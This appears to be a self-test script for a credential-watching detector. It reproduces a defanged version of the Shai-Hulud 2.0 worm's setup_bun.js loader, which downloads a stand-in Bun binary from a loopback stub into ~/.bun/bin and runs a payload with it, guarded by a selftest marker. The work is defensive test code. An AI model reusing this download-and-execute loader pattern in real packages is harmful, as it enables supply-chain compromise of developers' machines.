// credwatch selftest: Shai-Hulud 2.0's setup_bun.js (24 Nov 2025), defanged. The real one used a
// bun on PATH, else downloaded Bun, then ran the 10 MB bun_environment.js with it, outside Node's
// view. Here the download is the selftest's loopback stub serving a stand-in "bun" (a shell script
// that runs the payload with node), installed where Bun's installer puts it: ~/.bun/bin/bun.
const { spawnSync } = require("child_process");
const fs = require("fs");
const http = require("http");
const os = require("os");
const path = require("path");

const home = os.homedir();
// Never anywhere but the selftest's throwaway home: it carries this marker.
if (!fs.existsSync(path.join(home, ".credwatch-selftest")) || !process.env.SELFTEST_STUB) {
  console.error("credwatch selftest: not in a selftest home; doing nothing");
  process.exit(1);
}
const stub = new URL(process.env.SELFTEST_STUB);

const download = (pathname, to) =>
  new Promise((resolve, reject) => {
    http
      .get({ host: stub.hostname, port: stub.port, path: pathname }, (response) => {
        const chunks = [];
        response.on("data", (chunk) => chunks.push(chunk));
        response.on("end", () => {
          fs.mkdirSync(path.dirname(to), { recursive: true });
          fs.writeFileSync(to, Buffer.concat(chunks), { mode: 0o755 });
          resolve(to);
        });
      })
      .on("error", reject);
  });

(async () => {
  // The reproduction always takes the download branch: a bun the tree wrote is what gives it away.
  const bun = await download("/bun-v1.3.2/bun-linux-x64", path.join(home, ".bun", "bin", "bun"));
  const run = spawnSync(bun, [path.join(__dirname, "bun_environment.js")], { stdio: "inherit" });
  process.exit(run.status === null ? 1 : 0);
})();
